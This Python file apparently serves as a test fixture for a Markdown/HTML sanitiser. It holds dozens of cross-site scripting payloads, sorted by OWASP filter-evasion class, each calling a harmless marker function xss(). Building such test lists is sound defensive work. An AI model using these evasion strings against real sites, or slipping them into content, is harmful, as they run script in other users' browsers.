"""Attempts to make a page execute something, by the classes of OWASP's filter evasion cheat sheet. Each says `xss()`."""

CODE = "xss()"

# How a scheme that executes can be spelt: case, entities, blanks, controls, other encodings, other schemes.
ADDRESSES = [
    f"javascript:{CODE}", f"JaVaScRiPt:{CODE}", f"javascript&colon;{CODE}", f"javascript&#58;{CODE}", f"javascript&#x3A;{CODE}",
    f"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{CODE}", f"&#0000106avascript:{CODE}",
    f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{CODE}", f"java&Tab;script:{CODE}", f"java&NewLine;script:{CODE}",
    f"jav&#x09;ascript:{CODE}", f"jav&#x0A;ascript:{CODE}", f"jav&#x0D;ascript:{CODE}", f"&#14; javascript:{CODE}",
    f"\x01javascript:{CODE}", f"%20javascript:{CODE}", f"javascript%3A{CODE}", f"java%0ascript:{CODE}", f"javas\\cript:{CODE}",
    f"\\javascript:{CODE}", f"javascript\\:{CODE}", f"javascript://a.example/%0a{CODE}", f"javascript:/*--></title>*/{CODE}",
    f"\u200bjavascript:{CODE}", f"\u00a0javascript:{CODE}", f"\uff4aavascript:{CODE}", f"\u202ejavascript:{CODE}",
    f"vbscript:{CODE}", f"livescript:{CODE}", f"mocha:{CODE}", f"data:text/html,<script>{CODE}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=", f"DATA:image/svg+xml,<svg onload={CODE}>",
    f"feed:javascript:{CODE}", f"view-source:javascript:{CODE}", f"jar:javascript:{CODE}", f"blob:{CODE}",
    f"//javascript:{CODE}", f"x:javascript:{CODE}", f"https:javascript:{CODE}",
]

# What Markdown makes an address of.
LINKS = [
    "[a]({})", "[a](<{}>)", "![a]({})", "<{}>", "[a][r]\n\n[r]: {}", "[a][r]\n\n[r]: <{}> 'title'", "[![a]({})]({})",
]

# HTML of every kind, and Markdown that tries to leave its place.
OTHERS = [
    f"<script>{CODE}</script>", f"<SCRIPT SRC=data:,{CODE}></SCRIPT>", f"<script\n>{CODE}</script\n>", f"<scr<script>ipt>{CODE}</scr</script>ipt>",
    f"<<script>{CODE}//<</script>", f"<script/x>{CODE}</script>", f"<script>{CODE}", f"\\<script>{CODE}\\</script>",
    f"&lt;script&gt;{CODE}&lt;/script&gt;", f"\ufe64script\ufe65{CODE}", f"+ADw-script+AD4-{CODE}+ADw-/script+AD4-",
    f"<img src=x onerror={CODE}>", f"<img src=x onerror=\"{CODE}\"//>", f"<img \"\"\"><script>{CODE}</script>\">", f"<IMG SRC=`javascript:{CODE}`>",
    f"<img src=x:x onerror\u000c={CODE}>", f"<img/src=x/onerror={CODE}>", f"<svg onload={CODE}>", f"<svg/onload={CODE}//", f"<svg><script>{CODE}</script></svg>",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>", f"<math><mi xlink:href=\"javascript:{CODE}\">a</mi></math>",
    f"<body onload={CODE}>", f"<iframe src=\"javascript:{CODE}\"></iframe>", f"<iframe srcdoc=\"<script>parent.{CODE}</script>\">",
    f"<object data=\"javascript:{CODE}\">", f"<embed src=\"data:text/html,<script>{CODE}</script>\">", f"<base href=\"javascript:{CODE}//\">",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{CODE}\">", f"<link rel=stylesheet href=\"javascript:{CODE}\">",
    f"<style>@import 'javascript:{CODE}';</style>", f"<div style=\"background:url(javascript:{CODE})\">", f"<table background=\"javascript:{CODE}\">",
    f"<input autofocus onfocus={CODE}>", f"<details open ontoggle={CODE}>", f"<video><source onerror={CODE}></video>", f"<audio src=x onerror={CODE}>",
    f"<marquee onstart={CODE}>", f"<form action=\"javascript:{CODE}\"><input type=submit></form>", f"<button formaction=\"javascript:{CODE}\">a</button>",
    f"<isindex action=\"javascript:{CODE}\">", f"<a href=\"javascript:{CODE}\">a</a>", f"<a onmouseover={CODE}>a</a>", f"<xss id=x tabindex=1 onfocus={CODE}></xss>",
    f"<!--><script>{CODE}</script>-->", f"<!-- --!><script>{CODE}</script>", f"<![CDATA[<script>{CODE}</script>]]>", f"<?xml-stylesheet href=\"javascript:{CODE}\"?>",
    f"<?php echo '<script>{CODE}</script>' ?>", f"<!DOCTYPE x [<!ENTITY a \"{CODE}\">]>", f"</div></article></main><script>{CODE}</script>", f"</textarea><script>{CODE}</script>",
    f"<noscript><p title=\"</noscript><img src=x onerror={CODE}>\">", f"<template><script>{CODE}</script></template>", f"<plaintext><script>{CODE}</script>",
    f"[a](https://a.example \"\\\" onmouseover={CODE} x=\\\"\")", f"[a](https://a.example 'x\" onclick=\"{CODE}')", f"[a](https://a.example/\"onclick=\"{CODE})",
    f"[\"><script>{CODE}</script>](https://a.example)", f"![\"onerror=\"{CODE}](x)", f"![a](x \"\\\" onerror=\\\"{CODE}\")", f"<https://a.example/\"onclick=\"{CODE}>",
    f"<a@b.example\"onclick=\"{CODE}>", f"``` \" onclick=\"{CODE}\n```", f"~~~ x\"><script>{CODE}</script>\na\n~~~", f"    <script>{CODE}</script>",
    f"`<script>{CODE}</script>`", f"``\"><script>{CODE}</script>``", f"# <script>{CODE}</script>", f"> <script>{CODE}</script>", f"- <img src=x onerror={CODE}>",
    f"<div\n\n<script>{CODE}</script>", f"<pre>\n<script>{CODE}</script>\n</pre>", f"<textarea>\n\n</textarea><script>{CODE}</script>", f"a\n<script>\n\n{CODE}\n\n</script>",
    f"{{{{ config }}}} {{% raw %}}<script>{CODE}</script>", f"&#60;script&#62;{CODE}&#60;/script&#62;", f"&lt;img src=x onerror={CODE}&gt;",
]

PAYLOADS = [link.format(*[address] * link.count("{}")) for address in ADDRESSES for link in LINKS] + OTHERS
